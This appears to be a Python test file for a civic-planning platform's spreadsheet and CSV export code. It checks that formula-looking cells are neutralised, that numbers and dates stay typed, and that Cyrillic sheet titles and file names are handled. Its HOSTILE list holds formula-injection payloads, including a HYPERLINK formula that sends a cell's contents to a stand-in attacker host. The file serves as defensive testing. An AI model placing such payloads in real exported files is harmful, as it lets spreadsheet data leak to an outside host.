"""One writer for every table the platform hands out: safe in a spreadsheet, typed, named."""

from __future__ import annotations

import datetime
import io

from openpyxl import load_workbook

from civicplan.reports.documents import attachment
from civicplan.reports.tabular import Sheet, csv_response, defuse, xlsx_bytes, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")',
    "+79271234567",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_every_cell_a_spreadsheet_would_run_is_written_as_text() -> None:
    # given cells that Excel or LibreOffice would run as formulas
    # when they are defused
    # then each starts with an apostrophe and ordinary text and numbers are untouched
    assert all(defuse(value) == "'" + value for value in HOSTILE)
    assert defuse("Благоустройство сквера на ул. Ленина") == "Благоустройство сквера на ул. Ленина"
    assert defuse(-5) == -5 and defuse(12.5) == 12.5 and defuse(None) is None


def test_workbook_keeps_numbers_and_dates_typed_and_formulas_inert() -> None:
    # given a sheet with a hostile title in a resident's proposal, a number and a date
    sheet = Sheet(
        title="Предложения: итоги [март]",
        header=["Заголовок", "Поддержали", "Поступило"],
        rows=[[HOSTILE[0], 17, datetime.date(2026, 3, 14)]],
        preamble=[["Кампания «Стратегия лидерства»"]],
    )

    # when the workbook is written and read back
    book = load_workbook(io.BytesIO(xlsx_bytes([sheet])))

    # then the title is valid for Excel, the formula is text, the number is a number
    ws = book["Предложения  итоги  март"]
    assert ws["A1"].value == "Кампания «Стратегия лидерства»"
    assert [c.value for c in ws[2]] == ["Заголовок", "Поддержали", "Поступило"]
    title, supports, received = ws[3]
    assert title.data_type == "s" and title.value == "'" + HOSTILE[0]
    assert supports.value == 17 and supports.data_type == "n"
    assert received.value.date() == datetime.date(2026, 3, 14)
    assert ws.freeze_panes == "A3"


def test_csv_opens_in_russian_excel_and_downloads_under_a_cyrillic_name() -> None:
    # given a table with a formula-looking text
    # when it is downloaded as CSV under a Russian file name
    response = csv_response(
        ["Номер", "Текст"], [[1, "=1+1 и ещё"]], filename="предложения-2026-03-14.csv"
    )

    # then it is UTF-8 with BOM and «;», the formula defused, the name kept for the browser
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeffНомер;Текст")
    assert "1;'=1+1 и ещё" in body
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="-2026-03-14.csv"')
    assert "filename*=UTF-8''%D0%BF%D1%80%D0%B5" in disposition


def test_xlsx_and_plain_downloads_are_attachments() -> None:
    response = xlsx_response(Sheet(title="Лист", header=["A"], rows=[[1]]), filename="a.xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="a.xlsx"'
    assert response["Content-Type"].endswith("spreadsheetml.sheet")
    assert attachment(b"%PDF", filename="r.pdf", content_type="application/pdf").content == b"%PDF"


def test_a_blank_template_takes_the_first_typed_row_right_under_its_header():
    data = xlsx_bytes(
        [
            Sheet(
                title="Мероприятия",
                header=["Код", "Название"],
                rows=[],
                header_fill="DDE6F0",
                number_formats={0: "DD.MM.YYYY"},
            )
        ]
    )
    sheet = load_workbook(io.BytesIO(data))["Мероприятия"]
    sheet.append(["1.1", "Ремонт дороги Отрадный — Кинель"])
    assert sheet.max_row == 2  # no empty row left between the header and the first line
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].fill.fgColor.rgb.endswith("DDE6F0")


def test_late_measures_are_shaded_rows():
    data = xlsx_bytes(
        [
            Sheet(
                title="Дорожная карта",
                header=["Код", "Отстаёт"],
                rows=[["1.1", ""], ["1.2", "да"]],
                row_fills={1: "F6D5D9"},
            )
        ]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A3"].fill.fgColor.rgb.endswith("F6D5D9")
    assert sheet["A2"].fill.fill_type is None
